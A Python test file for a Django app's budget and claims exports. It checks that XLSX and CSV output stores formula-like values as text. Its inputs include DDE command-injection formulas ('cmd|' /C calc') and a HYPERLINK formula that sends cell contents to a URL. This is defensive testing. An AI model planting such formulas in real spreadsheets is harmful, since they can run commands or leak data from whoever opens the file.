"""No export writes a live formula: every XLSX goes through core.spreadsheets and every CSV
through core.csv's writer, which write as text whatever a spreadsheet would run."""

import io
import re
import zipfile
from datetime import date
from decimal import Decimal as D

from django.urls import reverse
from openpyxl import load_workbook

from budget.services import BudgetData, ChargeData, IncomeData, budget_version_create
from claims.services import ClaimData, ContactData, claim_create, creditor_create
from core.csv import csv_writer

from ..project import PACKAGES, ROOT

FORMULA_NAME = "=1+cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://127.0.0.1/x?"&A1,"Cliquez")'


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_budget_xlsx_writes_a_formula_label_as_text(client, world):
    version = budget_version_create(
        case=world.case,
        data=BudgetData(
            date=date(2025, 3, 1),
            ris_category="single",
            incomes=[IncomeData(kind="earned", amount=D("2000.00"), label="+SUM(1;2)")],
            charges=[
                ChargeData(kind="rent", amount=D("650.00"), label=HYPERLINK),
                ChargeData(kind="energy", amount=D("120.00"), label="@cmd|' /C calc'!A0"),
            ],
        ),
        by=world.mediator,
    )
    client.force_login(world.mediator)
    response = client.get(reverse("budget:export_xlsx", args=[world.case.pk, version.pk]))
    assert response.status_code == 200
    assert "<f>" not in sheet_xml(response.content)  # no formula anywhere in the file
    sheet = load_workbook(io.BytesIO(response.content))["Budget"]
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for label in (HYPERLINK, "+SUM(1;2)", "@cmd|' /C calc'!A0"):
        assert cells[label].data_type == "s"
        assert cells[label].quotePrefix  # stays text when the cell is edited


def test_claims_xlsx_writes_a_formula_creditor_as_text(client, world):
    creditor = creditor_create(organisation=world.org, data=ContactData(name=FORMULA_NAME))
    claim_create(
        case=world.case,
        data=ClaimData(creditor=creditor, principal=D("10.00"), declared_on=date(2022, 7, 1)),
    )
    client.force_login(world.mediator)
    response = client.get(reverse("claims:export_xlsx", args=[world.case.pk]))
    assert response.status_code == 200
    assert "<f>" not in sheet_xml(response.content)
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    names = [c for c in cells if c.value == FORMULA_NAME]
    assert len(names) == 2 and all(c.data_type == "s" and c.quotePrefix for c in names)


def test_the_csv_writer_neutralises_every_cell():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["=1+1", "-12,50", "+++123/4567/89012+++", "@SUM(A1)", "\tx", "ok"])
    writer.writerows([["-x", "'=already"]])
    assert buffer.getvalue() == (
        "'=1+1;-12,50;'+++123/4567/89012+++;'@SUM(A1);'\tx;ok\r\n'-x;'=already\r\n"
    )


def test_spreadsheets_are_written_only_by_core():
    """openpyxl is used by core.spreadsheets alone, the csv module by core.csv alone."""
    offenders = []
    allowed = {"openpyxl": ROOT / "core" / "spreadsheets.py", "csv": ROOT / "core" / "csv.py"}
    for package in PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            source = path.read_text()
            for module, owner in allowed.items():
                if path != owner and re.search(
                    rf"^\s*(from {module}[ .]|import {module}\b)", source, re.MULTILINE
                ):
                    offenders.append(f"{path.relative_to(ROOT)}: {module}")
    assert offenders == []
